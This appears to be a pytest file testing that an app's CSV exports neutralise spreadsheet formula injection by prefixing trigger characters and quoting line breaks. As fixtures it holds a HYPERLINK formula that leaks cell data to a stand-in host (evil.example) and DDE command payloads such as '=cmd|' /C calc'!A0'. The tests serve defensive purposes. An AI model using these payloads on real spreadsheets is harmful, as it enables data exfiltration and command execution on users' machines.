"""Every CSV the app and the CLI write is inert in a spreadsheet: text cells starting with
= + - @ tab or carriage return get a leading apostrophe; numbers stay numbers. Read back with
the csv module, as a spreadsheet would see the cells."""

from __future__ import annotations

import csv
import io
import os
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from dynamics import sweeps as sw
from dynamics.config import Config, ConfigError
from dynamics.exports import TRIGGERS, csv_bytes, inert_text
from dynamics.papers import Claim
from dynamics.service import Service
from dynamics.sweeps.cli import cli_main
from ui.downloads import claims_csv

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
BASE = {"model": {"width": 8}, "record": {"frames": 8, "scalars": 20},
        "integrator": {"t_end": 2.0}}


def cells(data: bytes, encoding: str = "utf-8") -> list[list[str]]:
    """The rows a CSV reader sees (no newline translation: the reader splits the rows)."""
    return list(csv.reader(io.StringIO(data.decode(encoding), newline="")))


def assert_inert(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            if cell.startswith(TRIGGERS):
                float(cell)  # only a plain number may start with + or - (raises otherwise)


def test_the_rule_on_single_cells() -> None:
    for bad in ("=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "-", "+"):
        assert inert_text(bad) == "'" + bad
    for number in ("-0.5", "+3", "1e-6", "-1.5E+3", ".5"):
        assert inert_text(number) == number
    for fine in ("x = 1", "a-b", "", "0.5", "'=already"):
        assert inert_text(fine) == fine


def test_numbers_stay_numbers_and_text_is_quoted() -> None:
    df = pd.DataFrame({"value": [-0.5, 1.0, float("nan")], "label": [FORMULA, "-0.5", "ok"],
                       "=name": [1, 2, 3]})
    rows = cells(csv_bytes(df))
    assert rows[0] == ["value", "label", "'=name"]
    assert rows[1] == ["-0.5", "'" + FORMULA, "1"]
    assert rows[2][:2] == ["1.0", "-0.5"] and rows[3][0] == ""
    assert_inert(rows)
    back = pd.read_csv(io.BytesIO(csv_bytes(df)))
    assert back["value"].iloc[0] == -0.5  # read back as the number it was


def test_a_sweep_spec_value_cannot_become_a_formula_in_the_results_csv() -> None:
    """A sweep whose string axis value starting with '=' is an invalid point whose
    message quotes it; the results CSV carries it as text."""
    spec = sw.Sweep.from_dict({"base": BASE, "axes": [
        {"field": "data.kind", "values": ["points", FORMULA]}]})
    res = sw.run_sweep_serial(spec, service=Service(cache_dir=Path(os.environ["EAE_CACHE_DIR"])))
    assert res.frame["status"].tolist() == ["completed", "invalid"]
    assert "data.kind" in res.frame.loc[1, "message"]
    rows = cells(res.to_csv_bytes())
    assert_inert(rows)
    flat = [c for r in rows for c in r]
    assert "'" + FORMULA in flat
    assert not any(c.startswith("=") for c in flat)


def test_the_cli_writes_an_inert_csv(tmp_path: Path) -> None:
    """`python -m dynamics sweep spec.json --out x.csv` (its own one-worker LocalCluster)."""
    spec = tmp_path / "spec.json"
    spec.write_text(sw.Sweep.from_dict({"base": BASE, "axes": [
        {"field": "data.kind", "values": [FORMULA, "@SUM(1)", CR_FORMULA]}]}).to_json())
    out = tmp_path / "out.csv"
    assert cli_main([str(spec), "--out", str(out), "--workers", "1", "--quiet"]) == 0
    rows = cells(out.read_bytes())
    assert len(rows) == 1 + 3  # a carriage return in a value started a row of its own
    assert_inert(rows)
    flat = [c for r in rows for c in r]
    assert "'" + FORMULA in flat and "'@SUM(1)" in flat and "'" + CR_FORMULA in flat
    assert not any(r and r[0].startswith("=") for r in rows)


CR_FORMULA = "\r=2+2"


@pytest.mark.parametrize("value", [CR_FORMULA, "a\r=2+2", "a\n=2+2", "\r\n=1", "x\r"])
def test_a_carriage_return_or_line_feed_stays_inside_its_cell(value: str) -> None:
    """A sweep value "\r=2+2" was written unquoted: a CSV reader started a new row with
    =2+2. Every cell with a CR or LF is now quoted and read back whole."""
    df = pd.DataFrame({"label": [value, "ok"], "x": [1.0, 2.0]})
    rows = cells(csv_bytes(df))
    assert len(rows) == 3 and all(len(r) == 2 for r in rows), rows
    assert rows[1][0] == inert_text(value) and rows[2] == ["ok", "2.0"]
    assert not any(r[0].startswith("=") for r in rows)


@settings(max_examples=200, deadline=None, derandomize=True)
@given(st.lists(st.text(alphabet=st.sampled_from(list("=+-@\t\r\n\",;'a1. ")), max_size=12),
                min_size=1, max_size=6))
def test_any_text_reads_back_as_its_own_cells(values: list[str]) -> None:
    """Random text of triggers, quotes, separators, CR and LF: as many rows and cells as
    written, each the text itself or (a trigger first) with its apostrophe."""
    df = pd.DataFrame({"v": values, "n": range(len(values))})
    rows = cells(csv_bytes(df))
    assert len(rows) == len(values) + 1
    for value, row in zip(values, rows[1:], strict=True):
        assert row == [inert_text(value), str(row[1])] and int(row[1]) >= 0
    assert_inert([r[:1] for r in rows[1:]])


def test_the_claims_csv_is_inert() -> None:
    claims = [Claim("=cmd|' /C calc'!A0", "+evil", -0.5, "@x", "-1+1", True, "\tdetails")]
    rows = cells(claims_csv(claims), "utf-8-sig")
    assert_inert(rows)
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["claim"] == "'=cmd|' /C calc'!A0" and row["statement"] == "'+evil"
    assert row["measured"] == "-0.5" and row["expected"] == "'@x"
    assert row["tolerance"] == "'-1+1" and row["details"] == "'\tdetails"


@pytest.mark.parametrize("path", ["model.gamma", "model.c", "data.noise"])
def test_minus_zero_and_zero_are_one_setting(path: str) -> None:
    section, name = path.split(".")
    base = {"data": {"kind": "clusters"}} if section == "data" else {}
    raw = {**base, section: {**base.get(section, {}), name: -0.0}}
    if path == "model.c":  # c must be > 0: −0 is refused like 0
        with pytest.raises(ConfigError):
            Config.from_dict(raw)
        return
    neg = Config.from_dict(raw)
    pos = Config.from_dict({**base, section: {**base.get(section, {}), name: 0.0}})
    assert neg.cache_key() == pos.cache_key()
    assert "-0.0" not in neg.to_json()
